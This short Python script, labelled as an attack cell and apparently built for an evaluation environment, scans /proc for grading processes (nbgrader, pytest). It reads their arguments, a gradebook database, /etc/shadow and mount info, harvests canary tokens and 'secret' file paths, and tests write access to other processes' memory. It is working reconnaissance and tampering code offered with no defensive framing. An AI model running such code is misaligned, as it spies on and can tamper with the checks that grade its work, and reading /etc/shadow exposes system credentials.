# Looks for grading processes in /proc, and reads their arguments, folders, open files and memory.
# %% attack
import os
import re
from pathlib import Path

found = set()
for process in Path("/proc").glob("[0-9]*"):
    for name in ("cmdline", "cwd/gradebook.db", "root/etc/shadow", "mountinfo"):
        try:
            data = (process / name).read_bytes()
        except OSError:
            continue
        found |= set(re.findall(rb"canary-\w+-[0-9a-f]{16}|nbgrader autograde|pytest|/etc/shadow", data.replace(b"\0", b" ")))
    try:
        for file in (process / "fd").iterdir():
            found |= set(re.findall(r"\S*gradebook\S*|\S*secret\S*", os.readlink(file)))
        (process / "mem").open("r+b").close()
        found |= {f"{process}/mem"} - {f"/proc/{os.getpid()}/mem"}
    except OSError:
        pass
print(found)
